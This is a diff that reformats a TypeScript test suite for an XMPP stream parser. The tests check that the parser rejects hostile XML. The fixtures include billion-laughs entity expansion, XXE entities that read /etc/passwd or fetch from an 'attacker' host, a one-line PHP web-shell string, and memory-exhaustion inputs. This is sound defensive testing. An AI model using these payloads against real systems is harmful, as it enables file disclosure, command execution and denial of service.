@@ -35,7 +35,11 @@ const LAUGHS =
 
 describe('entity expansion and external entities (DTDs) → restricted-xml', () => {
   runFixtures([
-    { name: 'billion laughs before the stream header', input: DECLARATION + LAUGHS + STREAM_OPEN + '&lol9;', events: [{ error: 'restricted-xml', offset: DECLARATION.length }] },
+    {
+      name: 'billion laughs before the stream header',
+      input: DECLARATION + LAUGHS + STREAM_OPEN + '&lol9;',
+      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
+    },
     attack('billion laughs between stanzas', LAUGHS + '<message>&lol9;</message>', 'restricted-xml', '<!DOCTYPE'),
     attack('the laugh without its DTD', '<message><body>&lol9;</body></message>', 'restricted-xml', '&lol9;'),
     {
@@ -43,7 +47,12 @@ describe('entity expansion and external entities (DTDs) → restricted-xml', () 
       input: DECLARATION + '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + STREAM_OPEN,
       events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
     },
-    attack('XXE: an external parameter entity inside a stanza', '<iq type="get"><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker/x">%p;]></iq>', 'restricted-xml', '<!DOCTYPE'),
+    attack(
+      'XXE: an external parameter entity inside a stanza',
+      '<iq type="get"><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker/x">%p;]></iq>',
+      'restricted-xml',
+      '<!DOCTYPE',
+    ),
     attack('XXE: the reference alone', '<message><body>&xxe;</body></message>', 'restricted-xml', '&xxe;'),
   ]);
 });
@@ -52,9 +61,17 @@ describe('comments and PIs at every depth and before the header → restricted-x
   const nested = (depth: number, inner: string) => '<a>'.repeat(depth) + inner + '</a>'.repeat(depth);
   runFixtures([
     { name: 'a comment before the XML declaration', input: '<!-- hi -->' + HEADER, events: [{ error: 'restricted-xml', offset: 0 }] },
-    { name: 'a comment between the declaration and the header', input: DECLARATION + '<!-- hi -->' + STREAM_OPEN, events: [{ error: 'restricted-xml', offset: DECLARATION.length }] },
+    {
+      name: 'a comment between the declaration and the header',
+      input: DECLARATION + '<!-- hi -->' + STREAM_OPEN,
+      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
+    },
     { name: 'a PI before the header', input: '<?php system($_GET["c"]); ?>' + HEADER, events: [{ error: 'restricted-xml', offset: 0 }] },
-    { name: 'a PI between the declaration and the header', input: DECLARATION + '<?xml-stylesheet href="x"?>' + STREAM_OPEN, events: [{ error: 'restricted-xml', offset: DECLARATION.length }] },
+    {
+      name: 'a PI between the declaration and the header',
+      input: DECLARATION + '<?xml-stylesheet href="x"?>' + STREAM_OPEN,
+      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
+    },
     attack('a comment at depth 1 (between stanzas)', '<!-- hi -->', 'restricted-xml', 0),
     attack('a PI at depth 1 (between stanzas)', '<?pi x?>', 'restricted-xml', 0),
     ...[2, 3, 10].flatMap((depth) => [
@@ -79,7 +96,12 @@ describe('namespaces and attributes → not-well-formed', () => {
     ]),
     attack('xmlns:p="" (undeclaring a prefix, Namespaces 1.1 only)', '<message xmlns:p=""/>', 'not-well-formed', 0),
     attack('rebinding the xml prefix', '<message xmlns:xml="urn:not-xml"/>', 'not-well-formed', 0),
-    attack('binding another prefix to the XML namespace', '<message xmlns:x="http://www.w3.org/XML/1998/namespace"/>', 'not-well-formed', 0),
+    attack(
+      'binding another prefix to the XML namespace',
+      '<message xmlns:x="http://www.w3.org/XML/1998/namespace"/>',
+      'not-well-formed',
+      0,
+    ),
     attack('declaring the xmlns prefix', '<message xmlns:xmlns="urn:x"/>', 'not-well-formed', 0),
     attack('an element in the xmlns prefix', '<xmlns:message/>', 'not-well-formed', 0),
   ]);
@@ -146,7 +168,14 @@ describe('bad UTF-8 → unsupported-encoding', () => {
 describe('characters, references and markup → not-well-formed', () => {
   const controls = ['\x00', '\x01', '\x08', '\x0b', '\x0c', '\x1b', '\x1f'];
   runFixtures([
-    ...controls.map((c) => attack(`C0 control U+${c.charCodeAt(0).toString(16).padStart(4, '0')} in text`, `<message><body>a${c}</body></message>`, 'not-well-formed', c)),
+    ...controls.map((c) =>
+      attack(
+        `C0 control U+${c.charCodeAt(0).toString(16).padStart(4, '0')} in text`,
+        `<message><body>a${c}</body></message>`,
+        'not-well-formed',
+        c,
+      ),
+    ),
     attack('NUL in an attribute value', '<message id="a\x00"/>', 'not-well-formed', '\x00'),
     attack('U+FFFE in text', '<message><body>\ufffe</body></message>', 'not-well-formed', '\ufffe'),
     ...['&#0;', '&#x0;', '&#1;', '&#x1F;', '&#xD800;', '&#xDFFF;', '&#xFFFE;', '&#xFFFF;', '&#x110000;', '&#99999999999;'].map((ref) =>
@@ -189,10 +218,22 @@ describe('stream structure', () => {
   const open = (attrs: string) => `<stream:stream ${attrs} to="example.com" version="1.0">`;
   const streamsNs = 'xmlns:stream="http://etherx.jabber.org/streams"';
   runFixtures([
-    { name: 'wrong stream namespace', input: open('xmlns="jabber:client" xmlns:stream="http://etherx.jabber.org/streamz"'), events: [{ error: 'invalid-namespace', offset: 0 }] },
-    { name: 'wrong content namespace', input: open(`xmlns="jabber:evil" ${streamsNs}`), events: [{ error: 'invalid-namespace', offset: 0 }] },
+    {
+      name: 'wrong stream namespace',
+      input: open('xmlns="jabber:client" xmlns:stream="http://etherx.jabber.org/streamz"'),
+      events: [{ error: 'invalid-namespace', offset: 0 }],
+    },
+    {
+      name: 'wrong content namespace',
+      input: open(`xmlns="jabber:evil" ${streamsNs}`),
+      events: [{ error: 'invalid-namespace', offset: 0 }],
+    },
     { name: 'no content namespace', input: open(streamsNs), events: [{ error: 'invalid-namespace', offset: 0 }] },
-    { name: 'the stream element under another name', input: `<stream:flow xmlns="jabber:client" ${streamsNs}>`, events: [{ error: 'invalid-namespace', offset: 0 }] },
+    {
+      name: 'the stream element under another name',
+      input: `<stream:flow xmlns="jabber:client" ${streamsNs}>`,
+      events: [{ error: 'invalid-namespace', offset: 0 }],
+    },
     attack('text at depth 1', 'hello', 'not-well-formed', 0),
     attack('a CDATA section at depth 1', '<![CDATA[x]]>', 'not-well-formed', 0),
     attack('an end tag for an element never opened', '</message>', 'not-well-formed', 0),
@@ -218,7 +259,12 @@ describe('the end of the input', () => {
   const cut = HEADER + '<message><body>x&am';
 
   it('a stream cut inside a stanza is not-well-formed at its unfinished token', () => {
-    expect(endedInsideAStanza((p) => { p.write(cut); p.end(); })).toBe(`not-well-formed@${H + 16}`);
+    expect(
+      endedInsideAStanza((p) => {
+        p.write(cut);
+        p.end();
+      }),
+    ).toBe(`not-well-formed@${H + 16}`);
   });
 
   // When the final bytes come with end(chunk) (as in parse()), text followed by a cut reference
@@ -232,7 +278,15 @@ describe('resource exhaustion → policy-violation with memory bounded', () => {
   const memoryScript = fileURLToPath(new URL('./attack-memory.mjs', import.meta.url));
   // Growth of the child's RSS while streaming: the input is 3 MB to 100 MB; the limits cap what is held.
   const MAX_GROWTH = 48 * 1024 * 1024;
-  for (const name of ['nested-100k', 'nested-1M', 'attributes-30k', 'namespaces-100k', 'attribute-value-10MB', 'text-node-100MB', 'text-node-100MB-limit-16MB']) {
+  for (const name of [
+    'nested-100k',
+    'nested-1M',
+    'attributes-30k',
+    'namespaces-100k',
+    'attribute-value-10MB',
+    'text-node-100MB',
+    'text-node-100MB-limit-16MB',
+  ]) {
     it(name, () => {
       const run = spawnSync(process.execPath, ['--expose-gc', memoryScript, name], { encoding: 'utf8', timeout: 120_000 });
       expect(run.status, run.stderr).toBe(0);
@@ -304,7 +358,9 @@ describe('recovery', () => {
   // The lexer's symbol cache once kept a name the binding never read when the declaration
   // check stopped the window first; every later parse then saw that name as ''.
   it('a stream refused at its declaration does not change the names of later parses', () => {
-    expect(() => parse('<?xml version="1.0" encoding="UTF-16"?><root/>')).toThrow(expect.objectContaining({ condition: 'unsupported-encoding' }));
+    expect(() => parse('<?xml version="1.0" encoding="UTF-16"?><root/>')).toThrow(
+      expect.objectContaining({ condition: 'unsupported-encoding' }),
+    );
     expect(parse('<root/>').name).toBe('root');
   });
 });
